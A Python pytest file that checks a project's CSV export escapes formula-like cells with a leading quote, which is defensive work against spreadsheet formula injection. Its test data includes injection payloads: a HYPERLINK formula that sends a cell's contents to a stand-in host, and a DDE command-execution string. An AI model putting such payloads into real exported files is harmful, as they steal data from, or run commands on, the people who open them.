"""Cells a spreadsheet would run as formulas (= + - @, a tab, a carriage return) are saved as
text with a leading quote, the OWASP way; numbers stay numbers. The batch bundle's index.csv
goes through it (issue 14 item 7)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest

from assistant.batch.bundle import bundle
from assistant.spreadsheet import csv_text, safe_cell, safe_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|'/C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-0.5, 3, 0, True, None, "-0.5", "+12", "-1e-3", "Calf lump", "a=b", "", "'=quoted"]
)
def test_numbers_and_harmless_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_csv_text_reads_back_with_quotes_only_where_needed() -> None:
    text = csv_text(["topic", "score", "note"], [["=1+1", -0.5, "-\n2"], ["ok", 2, "@x"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["topic", "score", "note"], ["'=1+1", "-0.5", "'-\n2"], ["ok", "2", "'@x"]
    ]  # fmt: skip
    assert safe_rows([{"a": "=x", "b": -1}]) == [{"a": "'=x", "b": -1}]


def test_the_batch_index_csv_is_safe_to_open(tmp_path: Path) -> None:
    articles = tmp_path / "articles"
    articles.mkdir()
    for n, title in enumerate([*HOSTILE[:2], "Gout"], start=2):
        record = {"row": n, "question_id": n * 10, "draft": {"request": {"title": title}}}
        (articles / f"k{n}.json").write_text(json.dumps(record))
        (articles / f"k{n}.md").write_text(f"# {title}\n")
    with zipfile.ZipFile(io.BytesIO(bundle(articles))) as bundled:
        index = list(csv.reader(io.StringIO(bundled.read("index.csv").decode())))
    assert [row[1:] for row in index] == [
        ["line", "about", "question_id"],
        ["2", "'" + HOSTILE[0], "20"],
        ["3", "'" + HOSTILE[1], "30"],
        ["4", "Gout", "40"],
    ]
